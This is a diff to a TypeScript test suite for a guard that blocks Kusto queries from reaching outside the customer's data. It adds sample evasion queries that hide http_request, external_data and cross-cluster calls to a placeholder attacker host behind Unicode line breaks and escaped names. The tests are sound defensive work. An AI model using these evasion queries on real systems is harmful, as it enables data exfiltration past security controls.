@@ -5,8 +5,6 @@ import { readByKusto } from '../../../support/kusto.ts';
 import { runs } from '../../../support/runs.ts';
 import { expectOf } from './oracle.ts';
 
-const SLOW_MS = 600_000;
-
 /** Queries that Kusto runs outside of the customer, written so that a reader may miss it. */
 const EVASIONS = [
   // A comment ends with any end of a line.
@@ -15,6 +13,10 @@ const EVASIONS = [
   'print 1 // x\u2029| evaluate http_request("https://evil.example/")',
   'print 1 // x\u0085| evaluate http_request("https://evil.example/")',
   'print 1 // x\u2028 ```\n| evaluate http_request("https://evil.example/") // ```',
+  // The operator has an older name, and a younger sister.
+  'external_data (a:string) ["https://evil.example/x"]',
+  "T | join (external_data(a:string)['https://evil.example/x']) on a",
+  'inline_external_table (a:string) kind=storage dataformat=csv ("https://evil.example/x")',
   // A quoted name has escapes.
   "union (['clus\\x74er']('evil').['data\\x62ase']('b').T2)",
   "union (['\\u0063luster']('evil').T)",
@@ -45,7 +47,7 @@ test.each([
   'T | where a == real(nan) and b == decimal(1.5) and c == bool(true) and d == int( 7 )',
   'T\r\n| where a == 1 // a comment\r\n| take 1',
   "T | extend x = d['a\\\\b'], y = d[\"it's\"]",
-])('what only looks odd is not refused: %j', { timeout: SLOW_MS }, (text) => {
+])('what only looks odd is not refused: %j', (text) => {
   expect(readByKusto(text).syntaxErrors).toEqual([]);
   expect(parseQuery(text)).not.toHaveProperty('description');
 });
@@ -53,15 +55,19 @@ test.each([
 const FRAGMENTS = [
   ...['print 1', 'T', '| union ', '| where a == ', '| evaluate ', '| take 1', ';', 'let a = ', '('],
   ...['cluster', "['cluster']", "['clus\\x74er']", '["database"]', '("x")', "('x')", '.T', ')'],
-  ...['http_request("x")', 'bag_unpack(d)', 'externaldata (a:string) ["x"]', 'workspace("x").T'],
+  ...[
+    'http_request("x")',
+    'bag_unpack(d)',
+    'externaldata (a:string) ["x"]',
+    'external_data (a:string) ["x"]',
+    'workspace("x").T',
+  ],
   ...['datetime(', 'guid(', 'time(', 'long (', 'DATE(', 'dynamic({"a":1})', '5', '0x1F', '1.5h'],
   ...['"', "'", '```', '~~~', '@"', 'h"', 'h@"', '\\', '//', '#', '/', '-', '.', ',', '=', '|'],
   ...[' ', '\n', '\r', '\r\n', '\t', '\v', '\f', '\u0085', '\u00a0', '\u2028', '\u2029', '\ufeff'],
 ];
 
-test('whatever Kusto reads as leaving the customer, the guard refuses', {
-  timeout: SLOW_MS,
-}, () => {
+test('whatever Kusto reads as leaving the customer, the guard refuses', () => {
   const anyText = fc
     .array(fc.constantFrom(...FRAGMENTS), { minLength: 2, maxLength: 14 })
     .map((parts) => parts.join(''));
